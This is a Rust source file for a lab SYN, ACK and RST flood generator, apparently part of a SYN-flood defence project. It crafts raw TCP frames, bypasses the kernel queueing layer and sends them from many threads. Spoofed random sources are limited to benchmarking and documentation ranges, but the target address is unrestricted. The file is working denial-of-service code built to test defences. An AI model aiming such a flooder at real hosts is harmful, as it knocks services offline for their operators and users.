//! The lab's SYN flood generator: crafted TCP SYNs through raw `AF_PACKET` sockets, sent
//! in batches with `sendmmsg` past the qdisc, from several threads, at a target rate or
//! flat out, IPv4 or IPv6, from one address or from addresses drawn at random from a
//! prefix. It reports what the kernel accepted to send, not what was asked.
//!
//! Forged sources must lie in 198.18.0.0/15 or 2001:db8::/32 (benchmarking and
//! documentation space); [`FloodSpec::check`] refuses anything else.

use std::{
    io,
    net::IpAddr,
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use ipnet::IpNet;
use serde::Serialize;

/// Where the SYNs come from.
#[derive(Clone, Debug)]
pub enum Source {
    /// One address.
    Fixed(IpAddr),
    /// A random address of this prefix for every SYN.
    Random(IpNet),
}

#[derive(Clone, Debug)]
pub struct FloodSpec {
    /// Send on this interface (in the calling thread's network namespace).
    pub ifindex: u32,
    pub src_mac: [u8; 6],
    pub dst_mac: [u8; 6],
    pub source: Source,
    pub dst: IpAddr,
    pub dport: u16,
    /// SYNs per second in all; `None` is flat out.
    pub rate: Option<u64>,
    /// The TCP flags of every segment: `packet::SYN` for a SYN flood; `packet::ACK` or
    /// `packet::RST` for ACK and RST floods.
    pub flags: u8,
    pub duration: Duration,
    pub threads: usize,
    /// Frames per `sendmmsg`.
    pub batch: usize,
}

#[derive(Clone, Debug, Default, Serialize)]
pub struct FloodReport {
    /// SYNs the kernel accepted to send.
    pub sent: u64,
    pub seconds: f64,
    pub pps: f64,
    /// `sendmmsg` calls that failed (e.g. ENOBUFS); the frames were not sent.
    pub failed_calls: u64,
}

impl FloodSpec {
    /// Refuse forged sources outside the ranges reserved for this.
    pub fn check(&self) -> anyhow::Result<()> {
        if let Source::Random(net) = &self.source {
            let allowed: [IpNet; 2] = [
                "198.18.0.0/15".parse().expect("literal"),
                "2001:db8::/32".parse().expect("literal"),
            ];
            if !allowed.iter().any(|a| synguard::net::covers(a, net)) {
                anyhow::bail!(
                    "forged sources must come from 198.18.0.0/15 or 2001:db8::/32, not {net}"
                );
            }
        }
        let v6 = matches!(self.dst, IpAddr::V6(_));
        let src_v6 = match &self.source {
            Source::Fixed(a) => a.is_ipv6(),
            Source::Random(n) => matches!(n, IpNet::V6(_)),
        };
        if v6 != src_v6 {
            anyhow::bail!("source and destination must be the same address family");
        }
        Ok(())
    }
}

/// xorshift64*: fast, good enough to spread sources and ports (and reproducible from
/// its seed, which the synthetic captures rely on).
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 > 1.0 - p
    }
}

const ETH: usize = 14;
/// TCP header with one option, MSS 1460, as real SYNs carry.
const TCP_LEN: usize = 24;

fn fold(mut sum: u32) -> u16 {
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn sum16(data: &[u8]) -> u32 {
    let mut s = 0u32;
    for c in data.chunks(2) {
        s += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    s
}

/// One frame, filled in per SYN.
struct Frame {
    buf: Vec<u8>,
    v6: bool,
}

impl Frame {
    fn new(spec: &FloodSpec) -> Self {
        let v6 = spec.dst.is_ipv6();
        let ip_len = if v6 { 40 } else { 20 };
        let mut buf = vec![0u8; ETH + ip_len + TCP_LEN];
        buf[0..6].copy_from_slice(&spec.dst_mac);
        buf[6..12].copy_from_slice(&spec.src_mac);
        match spec.dst {
            IpAddr::V4(d) => {
                buf[12..14].copy_from_slice(&[0x08, 0x00]);
                let ip = &mut buf[ETH..];
                ip[0] = 0x45;
                ip[2..4].copy_from_slice(&((20 + TCP_LEN) as u16).to_be_bytes());
                ip[6] = 0x40; // don't fragment
                ip[8] = 64;
                ip[9] = 6;
                ip[16..20].copy_from_slice(&d.octets());
            }
            IpAddr::V6(d) => {
                buf[12..14].copy_from_slice(&[0x86, 0xdd]);
                let ip = &mut buf[ETH..];
                ip[0] = 0x60;
                ip[4..6].copy_from_slice(&(TCP_LEN as u16).to_be_bytes());
                ip[6] = 6;
                ip[7] = 64;
                ip[24..40].copy_from_slice(&d.octets());
            }
        }
        let tcp = &mut buf[ETH + ip_len..];
        tcp[2..4].copy_from_slice(&spec.dport.to_be_bytes());
        tcp[12] = ((TCP_LEN / 4) as u8) << 4;
        tcp[13] = spec.flags;
        tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
        tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
        Self { buf, v6 }
    }

    fn fill(&mut self, src: IpAddr, sport: u16, seq: u32) {
        let ip_len = if self.v6 { 40 } else { 20 };
        {
            let ip = &mut self.buf[ETH..ETH + ip_len];
            match src {
                IpAddr::V4(s) => {
                    ip[12..16].copy_from_slice(&s.octets());
                    ip[10..12].copy_from_slice(&[0, 0]);
                    let c = fold(sum16(ip));
                    ip[10..12].copy_from_slice(&c.to_be_bytes());
                }
                IpAddr::V6(s) => ip[8..24].copy_from_slice(&s.octets()),
            }
        }
        let (ip, tcp) = self.buf[ETH..].split_at_mut(ip_len);
        tcp[0..2].copy_from_slice(&sport.to_be_bytes());
        tcp[4..8].copy_from_slice(&seq.to_be_bytes());
        tcp[16..18].copy_from_slice(&[0, 0]);
        let pseudo = if self.v6 {
            sum16(&ip[8..40]) + TCP_LEN as u32 + 6
        } else {
            sum16(&ip[12..20]) + TCP_LEN as u32 + 6
        };
        let c = fold(pseudo + sum16(tcp));
        tcp[16..18].copy_from_slice(&c.to_be_bytes());
    }
}

/// A random address inside `net`.
pub(crate) fn random_in(net: &IpNet, rng: &mut Rng) -> IpAddr {
    match net {
        IpNet::V4(n) => {
            let host = rng.next_u64() as u32 & !u32::from(n.netmask());
            IpAddr::V4((u32::from(n.network()) | host).into())
        }
        IpNet::V6(n) => {
            let r = (u128::from(rng.next_u64()) << 64) | u128::from(rng.next_u64());
            let host = r & !u128::from(n.netmask());
            IpAddr::V6((u128::from(n.network()) | host).into())
        }
    }
}

fn packet_socket(ifindex: u32) -> io::Result<OwnedFd> {
    // Protocol 0: this socket only sends, it receives nothing.
    // SAFETY: plain socket(2); owned at once.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    // SAFETY: a zeroed sockaddr_ll with the fields bind needs; lengths are correct.
    unsafe {
        let mut sll: libc::sockaddr_ll = std::mem::zeroed();
        sll.sll_family = libc::AF_PACKET as u16;
        sll.sll_ifindex = ifindex as i32;
        if libc::bind(
            fd.as_raw_fd(),
            (&raw const sll).cast(),
            size_of::<libc::sockaddr_ll>() as u32,
        ) != 0
        {
            return Err(io::Error::last_os_error());
        }
        // Skip the qdisc: straight to the driver, as flooding tools do.
        let one: i32 = 1;
        libc::setsockopt(
            fd.as_raw_fd(),
            libc::SOL_PACKET,
            libc::PACKET_QDISC_BYPASS,
            (&raw const one).cast(),
            size_of::<i32>() as u32,
        );
    }
    Ok(fd)
}

fn worker(spec: &FloodSpec, seed: u64, stop: &AtomicBool) -> io::Result<(u64, u64)> {
    let fd = packet_socket(spec.ifindex)?;
    let mut rng = Rng(seed | 1);
    let batch = spec.batch.max(1);
    let mut frames: Vec<Frame> = (0..batch).map(|_| Frame::new(spec)).collect();
    let per_thread = spec.rate.map(|r| r as f64 / spec.threads.max(1) as f64);
    let start = Instant::now();
    let (mut sent, mut failed) = (0u64, 0u64);
    while start.elapsed() < spec.duration && !stop.load(Ordering::Relaxed) {
        if let Some(r) = per_thread {
            let due = (start.elapsed().as_secs_f64() * r) as u64;
            if sent >= due {
                thread::sleep(Duration::from_micros(200));
                continue;
            }
        }
        let n = match per_thread {
            Some(r) => {
                let due = (start.elapsed().as_secs_f64() * r) as u64;
                (due - sent).clamp(1, batch as u64) as usize
            }
            None => batch,
        };
        for f in frames.iter_mut().take(n) {
            let src = match &spec.source {
                Source::Fixed(a) => *a,
                Source::Random(net) => random_in(net, &mut rng),
            };
            let r = rng.next_u64();
            f.fill(src, (r as u16) | 1024, (r >> 32) as u32);
        }
        let mut iov: Vec<libc::iovec> = frames
            .iter_mut()
            .take(n)
            .map(|f| libc::iovec {
                iov_base: f.buf.as_mut_ptr().cast(),
                iov_len: f.buf.len(),
            })
            .collect();
        let mut msgs: Vec<libc::mmsghdr> = iov
            .iter_mut()
            .map(|v| {
                // SAFETY: an all-zero msghdr is valid; we set the one iovec.
                let mut h: libc::mmsghdr = unsafe { std::mem::zeroed() };
                h.msg_hdr.msg_iov = v;
                h.msg_hdr.msg_iovlen = 1;
                h
            })
            .collect();
        // SAFETY: `msgs` points at `n` valid headers whose iovecs point at live frames.
        let r = unsafe { libc::sendmmsg(fd.as_raw_fd(), msgs.as_mut_ptr(), n as u32, 0) };
        if r < 0 {
            failed += 1;
            thread::yield_now();
        } else {
            sent += r as u64;
        }
    }
    Ok((sent, failed))
}

/// Flood from the calling thread's network namespace (worker threads inherit it).
pub fn run(spec: &FloodSpec, stop: &AtomicBool) -> anyhow::Result<FloodReport> {
    spec.check()?;
    let start = Instant::now();
    let results: Vec<io::Result<(u64, u64)>> = thread::scope(|s| {
        let handles: Vec<_> = (0..spec.threads.max(1))
            .map(|i| {
                let seed = 0x9e37_79b9_7f4a_7c15u64.wrapping_mul(i as u64 + 1)
                    ^ u64::from(std::process::id());
                s.spawn(move || worker(spec, seed, stop))
            })
            .collect();
        handles
            .into_iter()
            .map(|h| {
                h.join()
                    .unwrap_or_else(|_| Err(io::Error::other("flood thread panicked")))
            })
            .collect()
    });
    let secs = start.elapsed().as_secs_f64();
    let mut rep = FloodReport {
        seconds: secs,
        ..Default::default()
    };
    for r in results {
        let (s, f) = r?;
        rep.sent += s;
        rep.failed_calls += f;
    }
    rep.pps = rep.sent as f64 / secs.max(1e-9);
    Ok(rep)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(src: Source, dst: &str) -> FloodSpec {
        FloodSpec {
            ifindex: 1,
            src_mac: [2, 0, 0, 0, 0, 1],
            dst_mac: [2, 0, 0, 0, 0, 2],
            source: src,
            dst: dst.parse().unwrap(),
            dport: 80,
            rate: None,
            flags: crate::kit::packet::SYN,
            duration: Duration::from_secs(1),
            threads: 1,
            batch: 1,
        }
    }

    #[test]
    fn frames_are_valid_syns() {
        for (src, dst) in [
            ("198.18.3.4", "192.0.2.1"),
            ("2001:db8:8000::5", "2001:db8:2::1"),
        ] {
            let s = spec(Source::Fixed(src.parse().unwrap()), dst);
            let mut f = Frame::new(&s);
            f.fill(src.parse().unwrap(), 12345, 0xdead_beef);
            let p = etherparse::SlicedPacket::from_ethernet(&f.buf).unwrap();
            let tcp = match p.transport {
                Some(etherparse::TransportSlice::Tcp(t)) => t,
                other => panic!("{other:?}"),
            };
            assert!(tcp.syn() && !tcp.ack());
            assert_eq!((tcp.source_port(), tcp.destination_port()), (12345, 80));
            assert_eq!(tcp.sequence_number(), 0xdead_beef);
            assert_eq!(tcp.options(), &[2, 4, 0x05, 0xb4]);
            let ok = match p.net {
                Some(etherparse::NetSlice::Ipv4(ip)) => {
                    assert_eq!(ip.header().source_addr().to_string(), src);
                    let h = ip.header().to_header();
                    assert_eq!(h.header_checksum, h.calc_header_checksum());
                    tcp.to_header().calc_checksum_ipv4(&h, &[]).unwrap() == tcp.checksum()
                }
                Some(etherparse::NetSlice::Ipv6(ip)) => {
                    let h = ip.header().to_header();
                    tcp.to_header().calc_checksum_ipv6(&h, &[]).unwrap() == tcp.checksum()
                }
                other => panic!("{other:?}"),
            };
            assert!(ok, "TCP checksum");
        }
    }

    #[test]
    fn random_sources_stay_inside_their_prefix() {
        let net: IpNet = "198.18.0.0/15".parse().unwrap();
        let mut rng = Rng(7);
        let mut seen = std::collections::HashSet::new();
        for _ in 0..10_000 {
            let a = random_in(&net, &mut rng);
            assert!(net.contains(&a), "{a}");
            seen.insert(a);
        }
        // 10 000 draws from 131 072 addresses: about 9 620 distinct is what uniform
        // random gives (birthday bound); a poor generator gives far fewer.
        assert!(seen.len() > 9_500, "spread: {}", seen.len());
        let v6: IpNet = "2001:db8:8000::/33".parse().unwrap();
        for _ in 0..1000 {
            assert!(v6.contains(&random_in(&v6, &mut rng)));
        }
    }

    #[test]
    fn forged_sources_outside_the_reserved_ranges_are_refused() {
        assert!(
            spec(Source::Random("10.0.0.0/8".parse().unwrap()), "192.0.2.1")
                .check()
                .is_err()
        );
        assert!(
            spec(
                Source::Random("198.18.0.0/16".parse().unwrap()),
                "192.0.2.1"
            )
            .check()
            .is_ok()
        );
        assert!(
            spec(
                Source::Random("2001:db9::/32".parse().unwrap()),
                "2001:db8::1"
            )
            .check()
            .is_err()
        );
        assert!(
            spec(
                Source::Random("198.18.0.0/15".parse().unwrap()),
                "2001:db8::1"
            )
            .check()
            .is_err()
        );
    }
}
